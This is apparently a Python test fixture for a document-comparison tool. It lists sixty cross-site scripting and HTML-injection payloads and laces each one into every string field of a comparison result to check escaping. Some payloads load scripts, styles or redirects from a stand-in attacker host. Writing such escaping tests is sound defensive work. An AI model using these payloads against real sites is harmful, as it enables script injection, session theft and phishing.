"""Sixty strings that try to become more than text on a page; `ran()` would leave a trace."""

from __future__ import annotations

from plandiff.model import (
    Change,
    Comparison,
    Edit,
    Fact,
    FactChange,
    Finding,
    Ground,
    IssueStatus,
    NotCompared,
    Plan,
    Point,
    Provenance,
    RunnerUp,
    Share,
)

PAYLOADS = (
    "<script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<script src=data:text/javascript,ran()></script>",
    "</script><script>ran()</script>",
    "</style><script>ran()</script>",
    "</title><script>ran()</script>",
    "</textarea><script>ran()</script>",
    "--><script>ran()</script>",
    "]]><script>ran()</script>",
    "<!--<script>ran()</script>-->",
    "<scr<script>ipt>ran()</script>",
    "<script\n>ran()</script\n>",
    "<script\x00>ran()</script>",
    "<\x00script>ran()</script>",
    "\x1b[31m<script>ran()</script>",
    "<img src=x onerror=ran()>",
    "<img src=x:x onerror=ran()//",
    "<img/src=x/onerror=ran()>",
    "<img src=`x`onerror=ran()>",
    "<img srcset=https://evil.example/x.png>",
    '"><img src=x onerror=ran()>',
    "'><img src=x onerror=ran()>",
    "` onmouseover=ran() x=`",
    '" autofocus onfocus=ran() x="',
    "' autofocus onfocus=ran() x='",
    '" onpointerenter="ran()" data-x="',
    '" style="background:url(https://evil.example)" x="',
    "x onmouseover=ran()",
    "x' id='points",
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "</svg><script>ran()</script>",
    "<math><mtext><script>ran()</script></mtext></math>",
    "<math href=javascript:ran()>x</math>",
    "<iframe src=javascript:ran()></iframe>",
    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<object data=data:text/html,<script>ran()</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>",
    "<video src=x onerror=ran()></video>",
    "<audio src=x onerror=ran()></audio>",
    "<a href=javascript:ran()>x</a>",
    "<a href=https://evil.example target=_top>x</a>",
    "javascript:ran()",
    "data:text/html,<script>ran()</script>",
    "</del></ins></p></article></main><script>ran()</script>",
    "&lt;script&gt;ran()&lt;/script&gt; &#60;script&#62; &quot;",
    "\u202e<script>ran()</script>\u2066\u200b\ufeff\ud800",
)


def laced(payload: str) -> Comparison:
    """A comparison in which every string that a document, a data file or a plugin can give holds the payload."""
    p = payload
    known = Provenance(version=p, title=p, date=p, drafter=p, basis="reconstruction", known=p, notice=p, points=())

    def plan(side: str) -> Plan:
        points = (
            Point(id=f"{side}{p}", label=p, path=(p,), text=f"{p} one", line=1, reported=False),
            Point(id=f"{side}{p}a", label=p, path=(p, p), text=f"{p} two", parent=f"{side}{p}"),
            Point(id=f"{side}¶{p}", label=None, path=(p,), text=f"{p} three", role="paragraph"),
            Point(id=f"{side}alone{p}", label=f"2{p}", path=(p,), text=f"{p} four"),
            Point(id=f"{side}same{p}", label=f"3{p}", path=(p,), text=f"{p} five"),
        )
        return Plan(name=f"{side}{p}", format=p, sha256=p, points=points, provenance=known)

    fact = FactChange(type="number", old=Fact(type="number", quote=p), new=Fact(type="number", quote=p), message=p)
    finding = Finding(rule=p, severity="critical", message=p, quote=f"{p} quote", side="left", point=f"l{p}")
    edits = (
        Edit(op="equal", text=p),
        Edit(op="delete", text=f"gone {p}"),
        Edit(op="insert", text=f"come {p}"),
        Edit(op="equal", text=p),
    )
    told = {"score": 0.5, "reason": p, "severity": "critical", "facts": (fact,), "findings": (finding,), "issues": (p,)}
    parts = (
        Change(kind="modified", left=(f"l{p}",), right=(f"r{p}",), edits=edits, **told),
        Change(kind="unchanged", left=(f"l{p}a",), right=(f"r{p}a",), score=1, reason=p),
    )
    changes = (
        Change(
            kind="merged",
            left=(f"l{p}", f"l¶{p}"),
            right=(f"r{p}",),
            moved=True,
            runner_up=RunnerUp(left=(f"l{p}",), right=(f"r¶{p}",), score=0.4),
            shares=(Share(left=f"l{p}", right=f"r{p}", share=0.5), Share(left=f"l{p}", right=None, share=0.5)),
            lost=(p,),
            edits=edits,
            parts=parts,
            **told,
        ),
        Change(kind="dropped", left=(f"lalone{p}",), right=(), edits=edits[1:2], **told),
        Change(kind="added", left=(), right=(f"ralone{p}",), edits=edits[2:3], **told),
        Change(kind="added", left=(), right=(f"r¶{p}",), edits=edits[2:3], **told),
        Change(kind="unchanged", left=(f"lsame{p}",), right=(f"rsame{p}",), score=1, reason=p, issues=(p,)),
    )
    issues = tuple(
        IssueStatus(
            id=p,
            title=p,
            status=status,
            left=(f"l{p}a",),
            right=(f"r{p}",),
            was=p,
            now=f"{p} now",
            facts=(fact,),
            grounds=(Ground(kind="record", message=p),),
        )
        for status in ("open", "changed", "new", "dropped", "settled", "unknown")
    )
    return Comparison(
        plandiff=p,
        left=plan("l"),
        right=plan("r"),
        changes=changes,
        issues=issues,
        findings=(finding,),
        warnings=(p,),
        not_compared=(NotCompared(side="left", reason=p, text=p, line=1),),
    )
